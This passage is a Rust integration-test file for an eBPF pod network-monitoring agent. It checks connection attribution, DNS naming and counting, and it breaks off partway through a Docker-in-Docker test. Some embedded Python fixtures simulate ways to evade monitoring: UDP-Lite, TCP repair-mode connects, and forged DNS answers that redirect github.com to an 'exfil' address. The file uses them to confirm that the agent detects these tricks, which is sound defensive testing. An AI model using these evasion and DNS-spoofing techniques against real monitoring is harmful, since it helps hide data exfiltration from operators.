//! The kernel programs loaded into this kernel, attached to a test cgroup tree laid out as
//! kubelet lays it out, watching real processes in network namespaces: what a user of the
//! agent would check.

mod common;

use std::collections::{HashMap, HashSet};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, TcpListener, UdpSocket};
use std::time::Duration;

use common::{Agent, DnsServer, Layout, NetNs, Zone, python};
use runwarden_agent::dns::RecordData;
use runwarden_agent::ebpf::PodBudget;
use runwarden_agent::events::{Hook, Proto};
use runwarden_agent::pipeline::Observation;
use runwarden_tests::node::{cgroup_programs as effective, runwarden_programs};

const WINDOW: Duration = Duration::from_secs(5);

fn pid_of(out: &std::process::Output) -> u32 {
    String::from_utf8_lossy(&out.stdout).lines().next().unwrap().trim().parse().unwrap()
}

fn find(obs: &[Observation], ip: IpAddr, port: u16, proto: Proto) -> Vec<&Observation> {
    obs.iter().filter(|o| o.ip == ip && o.port == port && o.proto == proto).collect()
}

fn one(obs: &[Observation], ip: IpAddr, port: u16, proto: Proto) -> &Observation {
    let found = find(obs, ip, port, proto);
    assert_eq!(found.len(), 1, "one observation of {proto:?} {ip}:{port} expected, got {found:#?}\nall: {obs:#?}");
    found[0]
}

#[tokio::test]
async fn tcp_and_udp_over_ipv4_and_ipv6_connected_and_unconnected() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let ns = NetNs::new();
    let tcp4 = TcpListener::bind((ns.host_v4, 0)).unwrap();
    let tcp6 = TcpListener::bind((ns.host_v6, 0)).unwrap();
    let udp4 = UdpSocket::bind((ns.host_v4, 0)).unwrap();
    let udp6 = UdpSocket::bind((ns.host_v6, 0)).unwrap();
    let port = |a: std::io::Result<std::net::SocketAddr>| a.unwrap().port();
    let (t4, t6, u4, u6) =
        (port(tcp4.local_addr()), port(tcp6.local_addr()), port(udp4.local_addr()), port(udp6.local_addr()));
    let (h4, h6) = (ns.host_v4, ns.host_v6);
    let script = format!(
        r#"
import os, socket
print(os.getpid(), flush=True)
socket.create_connection(("{h4}", {t4})).close()
socket.create_connection(("{h6}", {t6})).close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("{h4}", {u4})); u.send(b"c4")
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.connect(("{h6}", {u6})); u.send(b"c6")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b"s4", ("{h4}", {u4p}))
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.sendto(b"s6", ("{h6}", {u6p}))
# What code that tries to slip by might do: UDP-Lite, an IPv6 extension header before the
# UDP header, a TCP connect in repair mode (no SYN sent), a UDP connect that sends nothing.
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); u.sendto(b"l4", ("{h4}", {lite}))
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
u.setsockopt(socket.IPPROTO_IPV6, 59, bytes([0, 0, 1, 4, 0, 0, 0, 0])); u.sendto(b"o6", ("{h6}", {opts}))
t = socket.socket(); t.setsockopt(socket.IPPROTO_TCP, 19, 1); t.connect(("{h4}", {repair})); t.close()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("{h4}", {quiet}))
"#,
        u4p = u4 + 1,
        u6p = u6 + 1,
        lite = u4 + 2,
        opts = u6 + 2,
        repair = t4 + 1,
        quiet = u4 + 3,
    );
    let out = python(&pod.container, Some(&ns), &script);
    let pid = pid_of(&out);
    let obs = agent.drain().await;

    let expected = [
        (IpAddr::V4(h4), t4, Proto::Tcp, Hook::Connect),
        (IpAddr::V6(h6), t6, Proto::Tcp, Hook::Connect),
        (IpAddr::V4(h4), u4, Proto::Udp, Hook::Sendmsg),
        (IpAddr::V6(h6), u6, Proto::Udp, Hook::Sendmsg),
        (IpAddr::V4(h4), u4 + 1, Proto::Udp, Hook::Sendmsg),
        (IpAddr::V6(h6), u6 + 1, Proto::Udp, Hook::Sendmsg),
        (IpAddr::V4(h4), u4 + 2, Proto::Udp, Hook::Sendmsg),
        (IpAddr::V6(h6), u6 + 2, Proto::Udp, Hook::Sendmsg),
        (IpAddr::V4(h4), t4 + 1, Proto::Tcp, Hook::Connect),
    ];
    for (ip, port, proto, hook) in expected {
        let o = one(&obs, ip, port, proto);
        assert_eq!(o.hook, hook, "{o:#?}");
        assert_eq!(o.pid, pid);
        assert_eq!(o.process, "python3");
        let exe = o.executable.as_deref().expect("the exec was seen");
        assert!(exe.starts_with('/') && exe.contains("python"), "{exe}");
        let attributed = o.pod.as_ref().expect("attributed to the pod");
        assert_eq!(attributed.pod_uid, pod.uid);
        assert_eq!(attributed.container_id.as_deref(), Some(pod.container_id.as_str()));
        assert_eq!(o.pod_cgroup_id, pod.cgroup_id);
        let age = std::time::SystemTime::now().duration_since(o.time).expect("a time in the past");
        assert!(age < Duration::from_secs(60), "time {:?} is {age:?} old", o.time);
    }
    // A UDP socket that connects and sends nothing has called nowhere (the libc resolver's
    // address sorting does that for every address it orders): not reported.
    assert_eq!(obs.len(), expected.len(), "nothing else: {obs:#?}");
    assert_eq!(agent.probes.stats().unwrap().lost_calls, 0);
}

#[tokio::test]
async fn names_come_from_the_answers_each_pod_received() {
    let mut agent = Agent::start(WINDOW);
    let (pod_a, pod_b) = (agent.pod(Layout::SystemdBurstable), agent.pod(Layout::SystemdGuaranteed));
    let (ns_a, ns_b) = (NetNs::new(), NetNs::new());
    let (dns_a, dns_b) = (DnsServer::start(IpAddr::V4(ns_a.host_v4)), DnsServer::start(IpAddr::V4(ns_b.host_v4)));
    let shared = Ipv4Addr::new(198, 51, 100, 7);
    let cdn = Ipv4Addr::new(198, 51, 100, 9);
    let v6: Ipv6Addr = "2001:db8::7".parse().unwrap();
    let records = |r: &[(&str, RecordData)]| Zone::Records(r.iter().map(|(n, d)| (n.to_string(), d.clone())).collect());
    dns_a.set("registry.example", records(&[("registry.example", RecordData::A(shared))]));
    dns_b.set(
        "www.example",
        records(&[
            ("www.example", RecordData::Cname("edge.cdn.example".into())),
            ("edge.cdn.example", RecordData::Cname("e1.edge.cdn.example".into())),
            ("e1.edge.cdn.example", RecordData::A(cdn)),
        ]),
    );
    dns_b.set("six.example", records(&[("six.example", RecordData::Aaaa(v6))]));

    // Pod A resolves the name and calls the address; pod B calls the same address without
    // asking, and calls a CNAME-chained name and an IPv6 name.
    let resolve_and_call = |name: &str, family: &str| {
        format!(
            "ai = socket.getaddrinfo('{name}', 443, socket.{family}, socket.SOCK_DGRAM)[0]\n\
             u = socket.socket(ai[0], socket.SOCK_DGRAM); u.connect(ai[4]); u.send(b'x')\n"
        )
    };
    let a = python(
        &pod_a.container,
        Some(&ns_a),
        &format!("import os, socket\nprint(os.getpid())\n{}", resolve_and_call("registry.example", "AF_INET")),
    );
    let b = python(
        &pod_b.container,
        Some(&ns_b),
        &format!(
            "import os, socket\nprint(os.getpid())\n\
             u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('{shared}', 443)); u.send(b'x')\n{}{}",
            resolve_and_call("www.example", "AF_INET"),
            resolve_and_call("six.example", "AF_INET6"),
        ),
    );
    let obs = agent.drain().await;
    let calls = |pid: u32| obs.iter().filter(|o| o.pid == pid && o.port == 443).cloned().collect::<Vec<_>>();
    let (from_a, from_b) = (calls(pid_of(&a)), calls(pid_of(&b)));

    let a_shared = one(&from_a, IpAddr::V4(shared), 443, Proto::Udp);
    assert_eq!(a_shared.hosts, ["registry.example"]);
    assert_eq!(a_shared.pod.as_ref().unwrap().pod_uid, pod_a.uid);

    let b_shared = one(&from_b, IpAddr::V4(shared), 443, Proto::Udp);
    assert!(b_shared.hosts.is_empty(), "pod B never asked for a name of {shared}: {b_shared:#?}");
    assert_eq!(b_shared.pod.as_ref().unwrap().pod_uid, pod_b.uid);
    assert_ne!(a_shared.pod_cgroup_id, b_shared.pod_cgroup_id);

    let chained = one(&from_b, IpAddr::V4(cdn), 443, Proto::Udp);
    let names: HashSet<&str> = chained.hosts.iter().map(String::as_str).collect();
    assert_eq!(names, HashSet::from(["www.example", "edge.cdn.example", "e1.edge.cdn.example"]), "{chained:#?}");
    assert_eq!(chained.hosts[0], "www.example", "the name asked for comes first");

    let six = one(&from_b, IpAddr::V6(v6), 443, Proto::Udp);
    assert_eq!(six.hosts, ["six.example"]);

    // The lookups themselves were seen: the resolver's calls to port 53 of each pod's server.
    assert!(obs.iter().any(|o| o.ip == IpAddr::V4(ns_a.host_v4) && o.port == 53));
    assert!(agent.pipeline.stats().dns_answers >= 3);
    assert_eq!(agent.pipeline.stats().malformed_dns, 0);
}

#[tokio::test]
async fn a_nested_cgroup_made_after_the_scan_is_attributed_to_its_pod_on_the_next_scan() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::CgroupfsBestEffort);
    // Docker-in-Docker: a cgroup below the container's, made after the last scan.
    let nested = pod.container.join("docker/inner");
    std::fs::create_dir_all(&nested).unwrap();
    let listener = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let out = python(
        &nested,
        None,
        &format!(
            "import os, socket\nprint(os.getpid())\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))"
        ),
    );
    let seen = agent.drain().await;
    assert!(seen.is_empty(), "not attributable before the scan, so held: {seen:#?}");
    assert_eq!(agent.pipeline.stats().pending, 1);
    assert!(agent.pipeline.wants_rescan());

    let resolved = agent.rescan();
    let o = one(&resolved, IpAddr::V4(Ipv4Addr::LOCALHOST), port, Proto::Udp);
    assert_eq!(o.pid, pid_of(&out));
    let attributed = o.pod.as_ref().unwrap();
    assert_eq!(attributed.pod_uid, pod.uid);
    assert_eq!(attributed.container_id.as_deref(), Some(pod.container_id.as_str()));
    assert!(attributed.nested);
    use std::os::unix::fs::MetadataExt;
    assert_eq!(o.cgroup_id, std::fs::metadata(&nested).unwrap().ino(), "the caller's own cgroup");
    assert_eq!(o.pod_cgroup_id, pod.cgroup_id, "matched at the pod's level");
    assert_eq!(agent.pipeline.stats().pending, 0);
    assert!(!agent.pipeline.wants_rescan());
}

#[tokio::test]
async fn processes_outside_monitored_cgroups_produce_nothing() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    // A pod cgroup the agent was not told to monitor, and a system service.
    let unmonitored = agent
        .cgroup(&format!("kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{}.slice", "0".repeat(32)));
    let service = agent.cgroup("system.slice/containerd.service");
    let before = agent.probes.stats().unwrap();
    let script = "import socket\nfor p in range(20):\n  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9000 + p))";
    python(&unmonitored, None, script);
    python(&service, None, script);
    // They run none of the programs.
    assert_eq!(effective(&unmonitored), []);
    assert!(agent.drain().await.is_empty());
    let after = agent.probes.stats().unwrap();
    assert_eq!(after, before, "no record written, nothing counted");

    // The monitored pod next to them is seen.
    python(&pod.container, None, script);
    let obs = agent.drain().await;
    assert_eq!(obs.len(), 20);
    assert!(obs.iter().all(|o| o.pod.as_ref().unwrap().pod_uid == pod.uid));
}

/// 1,000 connects to one destination: a handful of records, and the count still exact.
async fn burst(window: Duration) -> (usize, u64, u64) {
    let mut agent = Agent::start(window);
    let pod = agent.pod(Layout::SystemdBurstable);
    let ns = NetNs::new();
    let target = UdpSocket::bind((ns.host_v4, 0)).unwrap();
    let port = target.local_addr().unwrap().port();
    let h4 = ns.host_v4;
    python(
        &pod.container,
        Some(&ns),
        &format!(
            "import socket\nfor _ in range(1000):\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{h4}', {port})); s.send(b'x'); s.close()"
        ),
    );
    let records = find(&agent.drain().await, IpAddr::V4(h4), port, Proto::Udp).len();
    agent.totals().await;
    let calls: u64 = agent.pipeline.calls().iter().filter(|c| c.last.port == port).map(|c| c.calls).sum();
    (records, calls, agent.probes.stats().unwrap().calls_folded)
}

#[tokio::test]
async fn the_kernel_dedupe_sends_a_handful_of_records_and_counts_stay_exact() {
    let (records, calls, folded) = burst(WINDOW).await;
    assert!((1..=3).contains(&records), "{records} records for 1,000 calls in one window");
    assert_eq!(calls, 1000, "every call counted");
    assert_eq!(folded, 1000 - records as u64);

    let (records, calls, folded) = burst(Duration::ZERO).await;
    assert_eq!((records, calls, folded), (1000, 1000, 0), "dedupe off: a record per call");
}

/// The kernel counts a repeated call on the CPU that made it and moves the count to the shared
/// table later (when the CPU's slot for it is taken over, or after the window): two processes
/// on two CPUs calling more destinations than a CPU has slots, each several times within the
/// window, and every call of every destination is counted once.
#[tokio::test]
async fn counts_stay_exact_across_cpus_and_when_destinations_share_a_slot() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let cpus = std::thread::available_parallelism().map_or(1, |n| n.get()).min(2);
    python(
        &pod.container,
        None,
        &format!(
            "import os, socket
kids = []
for cpu in range({cpus}):
  pid = os.fork()
  if pid == 0:
    os.sched_setaffinity(0, {{cpu}})
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3):
      for p in range(600):
        s.sendto(b'x', ('127.0.0.1', 20000 + p))
    os._exit(0)
  kids.append(pid)
for pid in kids:
  os.waitpid(pid, 0)"
        ),
    );
    agent.drain().await;
    agent.totals().await;
    let mut per_port: HashMap<u16, u64> = HashMap::new();
    for c in agent.pipeline.calls() {
        *per_port.entry(c.last.port).or_default() += c.calls;
    }
    assert_eq!(per_port.len(), 600, "every destination seen");
    let wrong: Vec<_> = per_port.iter().filter(|(_, calls)| **calls != 3 * cpus as u64).collect();
    assert!(wrong.is_empty(), "{} calls each expected; {wrong:?}", 3 * cpus);
}

#[tokio::test]
async fn malformed_dns_answers_are_counted_and_names_keep_working() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let ns = NetNs::new();
    let dns = DnsServer::start(IpAddr::V4(ns.host_v4));
    let good = Ipv4Addr::new(203, 0, 113, 5);
    dns.set("ok.example", Zone::Records(vec![("ok.example".into(), RecordData::A(good))]));
    // A header claiming an answer, then a name whose compression pointer loops, then junk.
    let mut looping = vec![0x00, 0x07, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1, 0xc0, 18];
    looping.extend([0xff; 40]);
    dns.set("loop.example", Zone::Garbage(looping));
    dns.set("short.example", Zone::Garbage(vec![0x00, 0x08, 0x81]));
    let h4 = ns.host_v4;
    // Raw queries (the resolver would retry garbage); then a normal lookup and a call.
    let query = |id: u8, name: &str| {
        let labels: String = name.split('.').map(|l| format!("bytes([{}]) + b'{l}' + ", l.len())).collect();
        format!(
            "q = bytes([0, {id}, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + {labels}bytes([0, 0, 1, 0, 1])\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, ('{h4}', 53)); s.recv(2048)\n"
        )
    };
    python(
        &pod.container,
        Some(&ns),
        &format!(
            "import socket\n{}{}ai = socket.getaddrinfo('ok.example', 80, socket.AF_INET, socket.SOCK_DGRAM)[0]\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ai[4])\n",
            query(7, "loop.example"),
            query(8, "short.example")
        ),
    );
    let obs = agent.drain().await;
    let stats = agent.pipeline.stats();
    assert_eq!(stats.malformed_dns, 2, "{stats:?}");
    assert_eq!(one(&obs, IpAddr::V4(good), 80, Proto::Udp).hosts, ["ok.example"]);
}

#[test]
fn trace_prints_json_for_a_command_that_calls_three_destinations() {
    common::require_root();
    let ns = NetNs::new();
    let dns = DnsServer::start(IpAddr::V4(ns.host_v4));
    dns.set("api.example", Zone::Records(vec![("api.example".into(), RecordData::A(ns.host_v4))]));
    let tcp = TcpListener::bind((ns.host_v4, 0)).unwrap();
    let udp = UdpSocket::bind((ns.host_v6, 0)).unwrap();
    let (tp, up) = (tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port());
    let (h4, h6) = (ns.host_v4, ns.host_v6);
    let script = format!(
        "import os, socket\nprint(os.getpid(), flush=True)\n\
         socket.create_connection(('api.example', {tp})).close()\n\
         socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('{h6}', {up}))\n\
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))\n"
    );
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_runwarden-agent"))
        .args(["trace", "--json", "--", "ip", "netns", "exec", &ns.name, "python3", "-c", &script])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "trace failed: {stderr}");
    let mut lines = stdout.lines();
    let pid: u64 = lines.next().unwrap().parse().unwrap();
    let calls: Vec<serde_json::Value> = lines.map(|l| serde_json::from_str(l).unwrap()).collect();
    let to: Vec<&serde_json::Value> = calls.iter().filter(|c| c["port"] != 53).collect();
    assert_eq!(to.len(), 3, "three destinations (and the lookups to port 53): {stdout}");
    let expect = [
        (h4.to_string(), tp, "tcp", serde_json::json!("api.example")),
        (h6.to_string(), up, "udp", serde_json::Value::Null),
        ("127.0.0.1".to_string(), 9, "udp", serde_json::Value::Null),
    ];
    for (call, (ip, port, proto, host)) in to.iter().zip(expect) {
        assert_eq!(call["ip"], ip.as_str(), "{call}");
        assert_eq!(call["port"], port);
        assert_eq!(call["proto"], proto);
        assert_eq!(call["host"], host);
        assert_eq!(call["pid"], pid);
        assert_eq!(call["process"], "python3");
        assert!(call["executable"].as_str().unwrap().contains("python"), "{call}");
        let time = call["time"].as_str().unwrap();
        assert!(time.len() == 24 && time.ends_with('Z') && time.starts_with("20"), "RFC 3339 time: {time}");
    }
    assert!(calls.iter().any(|c| c["port"] == 53 && c["ip"] == h4.to_string()), "the lookup itself");
    assert!(stderr.contains("calls to"), "a summary on stderr: {stderr}");
}

#[test]
fn trace_explains_what_is_wrong() {
    let bin = env!("CARGO_BIN_EXE_runwarden-agent");
    let out = std::process::Command::new(bin).args(["trace"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing to trace"));
    let out =
        std::process::Command::new(bin).args(["trace", "--cgroup", "/nonexistent", "--", "true"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "a cgroup and a command: {}", String::from_utf8_lossy(&out.stderr));
    let out = std::process::Command::new(bin).args(["trace", "--cgroup", "/tmp"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("is not a cgroup v2 directory"));
    // No cgroup v2 mount (a mount namespace without it).
    let out = std::process::Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(format!("umount -l /sys/fs/cgroup/unified 2>/dev/null; umount -l /sys/fs/cgroup 2>/dev/null; exec {bin} trace -- true"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no cgroup v2 hierarchy is mounted"));
    // Not root: a clear message (setpriv drops to nobody).
    let out = std::process::Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", bin, "trace", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("trace needs root"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[tokio::test]
async fn records_that_do_not_fit_are_counted_as_lost() {
    // Dedupe off and nobody reading: 60,000 records do not fit in the 4 MiB ring buffer.
    let mut agent = Agent::start(Duration::ZERO);
    let pod = agent.pod(Layout::SystemdBurstable);
    python(
        &pod.container,
        None,
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor _ in range(60000):\n  s.sendto(b'x', ('127.0.0.1', 9))",
    );
    let stats = agent.probes.stats().unwrap();
    assert!(stats.lost_calls > 0, "{stats:?}");
    assert_eq!(stats.call_events + stats.lost_calls, 60_000, "every call either written or counted lost: {stats:?}");
    let read = agent.drain().await.len() as u64;
    assert_eq!(read, stats.call_events, "what was written is read");
}

#[tokio::test]
async fn a_long_answer_is_cut_at_the_capture_and_the_addresses_that_fit_are_named() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let ns = NetNs::new();
    let dns = DnsServer::start(IpAddr::V4(ns.host_v4));
    // 100 A records: 16 bytes each with a compressed owner, ~1,630 bytes in all.
    let addresses: Vec<Ipv4Addr> = (0..100).map(|i| Ipv4Addr::new(198, 18, 0, i)).collect();
    dns.set(
        "many.example",
        Zone::Records(addresses.iter().map(|a| ("many.example".into(), RecordData::A(*a))).collect()),
    );
    let h4 = ns.host_v4;
    python(
        &pod.container,
        Some(&ns),
        &format!(
            "import socket\n\
             q = bytes([0, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4]) + b'many' + bytes([7]) + b'example' + bytes([0, 0, 1, 0, 1])\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, ('{h4}', 53))\n\
             assert len(s.recv(4096)) > 1500\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.18.0.0', 443))\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.18.0.99', 443))\n"
        ),
    );
    let obs = agent.drain().await;
    assert_eq!(agent.probes.stats().unwrap().dns_cut, 1);
    assert_eq!(agent.pipeline.stats().malformed_dns, 0, "a cut answer is read as far as it goes");
    assert_eq!(one(&obs, IpAddr::V4(addresses[0]), 443, Proto::Udp).hosts, ["many.example"]);
    assert!(one(&obs, IpAddr::V4(addresses[99]), 443, Proto::Udp).hosts.is_empty(), "past the capture");
}

#[test]
fn the_programs_need_three_named_capabilities_and_say_which_is_missing() {
    use std::io::{BufRead, BufReader, Read};
    use std::process::{Command, Stdio};
    common::require_root();
    let mount = runwarden_agent::ebpf::cgroup2_mount().unwrap();
    let dir = mount.join(format!("runwarden-caps-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let bin = env!("CARGO_BIN_EXE_runwarden-agent");
    // Root's uid, but only CAP_BPF, CAP_PERFMON and CAP_NET_ADMIN: what the DaemonSet grants.
    let mut trace = Command::new("setpriv")
        .args(["--bounding-set=-all,+bpf,+perfmon,+net_admin", bin, "trace", "--json", "--cgroup"])
        .arg(&dir)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(trace.stderr.take().unwrap());
    let mut ready = String::new();
    stderr.read_line(&mut ready).unwrap();
    assert!(ready.contains("tracing") && ready.contains("until interrupted"), "attached: {ready:?}");
    let out = python(
        &dir,
        None,
        "import os, socket\nprint(os.getpid())\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
    );
    let pid = pid_of(&out);
    std::thread::sleep(Duration::from_millis(100));
    assert!(Command::new("kill").args(["-INT", &trace.id().to_string()]).status().unwrap().success());
    let mut stdout = String::new();
    trace.stdout.take().unwrap().read_to_string(&mut stdout).unwrap();
    let mut rest = String::new();
    stderr.read_to_string(&mut rest).unwrap();
    assert!(trace.wait().unwrap().success(), "{rest}");
    assert!(!rest.contains("no executable paths"), "{rest}");
    let call: serde_json::Value = stdout
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|c| c["port"] == 9)
        .unwrap_or_else(|| panic!("the call: {stdout}"));
    assert_eq!(call["pid"], pid);
    assert_eq!(call["proto"], "udp");
    assert!(call["executable"].as_str().unwrap().contains("python"), "the exec program too: {call}");

    // Without CAP_PERFMON: refused, and the message names it.
    let out = Command::new("setpriv")
        .args(["--bounding-set=-all,+bpf,+net_admin", bin, "trace", "--cgroup"])
        .arg(&dir)
        .output()
        .unwrap();
    let _ = std::fs::remove_dir(&dir);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.trim_end().ends_with("missing: CAP_PERFMON"), "{stderr}");
}

#[tokio::test]
async fn answers_a_pod_sends_itself_name_nothing() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let ns = NetNs::new();
    // The pod binds port 53 itself and sends its other socket an "answer" naming an address
    // github.com, then calls that address: it must stay unnamed.
    let forged = common::dns_response(
        5,
        "github.com",
        1,
        &[("github.com", 300, RecordData::A(Ipv4Addr::new(203, 0, 113, 66)))],
        true,
        false,
    );
    python(
        &pod.container,
        Some(&ns),
        &format!(
            "import socket\n\
             victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); victim.bind(('127.0.0.1', 0))\n\
             fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(('127.0.0.1', 53))\n\
             fake.sendto(bytes([{}]), victim.getsockname()); victim.recv(2048)\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('203.0.113.66', 443))\n",
            common::py_bytes(&forged)
        ),
    );
    let obs = agent.drain().await;
    assert!(one(&obs, IpAddr::V4(Ipv4Addr::new(203, 0, 113, 66)), 443, Proto::Udp).hosts.is_empty());
    assert_eq!(agent.probes.stats().unwrap().dns_events, 1, "the kernel saw the forged answer");
    assert_eq!(agent.pipeline.stats().unsolicited_dns, 1, "and the pipeline refused it");
}

/// Trusts only `resolver`'s answers, as the agent trusts the cluster's resolver.
fn trust_only(agent: &mut Agent, resolver: Ipv4Addr) {
    agent.pipeline = runwarden_agent::pipeline::Pipeline::new(runwarden_agent::pipeline::PipelineConfig {
        attribute_pods: true,
        trusted_resolvers: Some(vec![IpAddr::V4(resolver)]),
        ..Default::default()
    });
    agent.rescan();
}

#[tokio::test]
async fn a_server_inside_the_pod_that_was_asked_still_names_nothing_and_a_contradiction_is_suspicious() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let ns = NetNs::new();
    let dns = DnsServer::start(IpAddr::V4(ns.host_v4));
    // As the agent does: only the pod's configured resolver is trusted.
    trust_only(&mut agent, ns.host_v4);
    let real = Ipv4Addr::new(198, 51, 100, 20);
    dns.set("github.com", Zone::Records(vec![("github.com".into(), RecordData::A(real))]));
    let exfil = Ipv4Addr::new(203, 0, 113, 66);
    let forged = common::dns_response(5, "github.com", 1, &[("github.com", 300, RecordData::A(exfil))], true, false);
    let (bytes, query) = (common::py_bytes(&forged), common::py_bytes(&common::dns_query(5, "github.com")));
    // The process resolves github.com as usual, then asks its own server on 127.0.0.1:53 (a real
    // query, so the answer matches it), which answers github.com with the exfiltration address;
    // it calls both.
    python(
        &pod.container,
        Some(&ns),
        &format!(
            "import socket\n\
             real = socket.getaddrinfo('github.com', 443, socket.AF_INET, socket.SOCK_DGRAM)[0][4]\n\
             fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(('127.0.0.1', 53))\n\
             victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); victim.bind(('127.0.0.1', 0))\n\
             victim.sendto(bytes([{}]), ('127.0.0.1', 53)); _, asker = fake.recvfrom(512)\n\
             fake.sendto(bytes([{}]), asker); victim.recv(2048)\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{exfil}', 443))\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', real)\n",
            query, bytes
        ),
    );
    let obs = agent.drain().await;
    assert!(one(&obs, IpAddr::V4(exfil), 443, Proto::Udp).hosts.is_empty(), "the forged name is not used");
    assert_eq!(one(&obs, IpAddr::V4(real), 443, Proto::Udp).hosts, ["github.com"]);
    let stats = agent.pipeline.stats();
    assert_eq!((stats.uncorroborated_dns, stats.contradicting_dns), (1, 1), "{stats:?}");
    let suspicious = agent.pipeline.take_suspicious();
    assert_eq!(suspicious.len(), 1, "{suspicious:?}");
    assert!(suspicious[0].loopback, "the kernel says the answer came over the pod's loopback: {suspicious:?}");
    assert_eq!(suspicious[0].claimed, [IpAddr::V4(exfil)]);
    assert_eq!(suspicious[0].trusted, [IpAddr::V4(real)]);
}

#[tokio::test]
async fn a_nested_containers_answer_claiming_the_cluster_resolver_is_not_believed() {
    let mut agent = Agent::start(WINDOW);
    let pod = agent.pod(Layout::SystemdBurstable);
    let ns = NetNs::new();
    let dns = DnsServer::start(IpAddr::V4(ns.host_v4));
    trust_only(&mut agent, ns.host_v4);
    let real = Ipv4Addr::new(198, 51, 100, 22);
    dns.set("github.com", Zone::Records(vec![("github.com".into(), RecordData::A(real))]));
    // The runner resolves github.com before any job: the answer comes in on the pod's uplink.
    python(&pod.container, Some(&ns), "import socket\nsocket.getaddrinfo('github.com', 443, socket.AF_INET)\n");
    drop(dns);

    // Docker-in-Docker as a job sets it up: a bridge in the pod's network namespace, a nested
    // container's namespace behind it, which holds the cluster resolver's address itself.
    let nested = format!("{}-nested", ns.name);
    let sh = |args: &[&str]| {
        let out = std::process::Command::new("ip").args(args).output().unwrap();
        assert!(out.status.success(), "ip {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    };
    let (bridge, pod_end, nested_end) = (format!("dk{}", ns.name.len()), "dkp0", "dkn0");
    sh(&["netns", "add", &nested]);
    sh(&["-n", &ns.name, "link", "add", &bridge, "type", "bridge"]);
    sh(&["-n", &ns.name, "addr", "add", "172.30.0.1/24", "dev", &bridge]);
    sh(&["-n", &ns.name, "link", "add", pod_end, "type", "veth", "peer", "name", nested_end, "netns", &nested]);
    sh(&["-n", &ns.name, "link", "set", pod_end, "master", &bridge]);
